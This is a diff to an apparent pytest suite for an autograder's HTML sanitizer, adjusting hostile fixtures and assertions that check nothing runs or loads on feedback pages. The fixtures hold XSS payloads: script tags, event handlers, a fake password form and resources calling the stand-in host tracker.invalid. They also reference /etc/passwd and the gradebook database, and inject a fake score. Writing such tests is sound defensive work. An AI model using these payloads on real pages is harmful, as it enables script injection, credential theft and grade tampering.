@@ -22,7 +22,7 @@ from autograder.safe_html import clean, clean_markdown
 from course_utils.checks.report import MIMETYPE
 
 EVIL = "http://tracker.invalid"
-HOSTILE_HTML = f"""
+HOSTILE_HTML = f"""<b>kept words</b>
 <script>window.ran = 1; fetch("{EVIL}/fetch")</script>
 <img src=x onerror="window.ran = 2"><img src="{EVIL}/pixel.png" srcset="{EVIL}/set.png 2x">
 <svg onload="window.ran = 3"><script>window.ran = 4</script><image href="{EVIL}/svg.png"/></svg>
@@ -38,7 +38,7 @@ HOSTILE_HTML = f"""
 <form action="{EVIL}/form"><input name="password" autofocus onfocus="window.ran = 12"><button>log in</button></form>
 <img src="../../gradebook.db"><img src="file:///etc/passwd"><video src="{EVIL}/video" autoplay></video>
 <template><script>window.ran = 13</script></template><noscript><p title="</noscript><img src=x onerror=window.ran=14>">
-</div></div></div></div></div></div></div></body></html><h1>Score: 1000</h1><b>kept words
+</div></div></div></div></div></div></div></body></html><h1>Score: 1000</h1><b>open
 """
 HOSTILE_MARKDOWN = f"""
 <script>window.ran = 20</script> kept text <b onmouseover="window.ran = 21">bold</b>
@@ -86,13 +86,19 @@ class Page(HTMLParser):
         super().__init__()
         self.tags: list[tuple[str, dict[str, str | None]]] = []
         self.text = ""
+        self.inside = ""
         self.feed(text)
 
     def handle_starttag(self, tag, attrs):
         self.tags.append((tag, dict(attrs)))
+        self.inside = tag
+
+    def handle_endtag(self, tag):
+        self.inside = ""
 
     def handle_data(self, data):
-        self.text += data
+        if self.inside != "style":
+            self.text += data
 
 
 def assert_harmless(text: str) -> Page:
@@ -128,7 +134,7 @@ def course(tmp_path_factory: pytest.TempPathFactory) -> Path:
     done = nbgrader(folder, "autograde", NAME)
     assert done.returncode == 0, done.stderr
     leak_in_test_cell(folder)
-    comment_on(folder, "hostile", "<script>window.ran = 50</script>**well tried**")
+    comment_on(folder, "hostile", "**well tried** <script>window.ran = 50</script>")
     done = nbgrader(folder, "generate_feedback", NAME)
     assert done.returncode == 0, done.stderr
     assert "Traceback" not in done.stderr
@@ -171,7 +177,7 @@ def page_of(course: Path, student: str) -> str:
 def test_case_87_nothing_runs_and_nothing_loads(course):
     page = assert_harmless(page_of(course, "hostile"))
     assert EVIL not in "".join(str(attributes) for _, attributes in page.tags)
-    assert "kept words" in page.text
+    assert page.text.count("kept words") == 3  # in the cell's own text, its output, and the output put in later
 
 
 def test_case_87_formgrader_sees_cleaned_outputs(course):
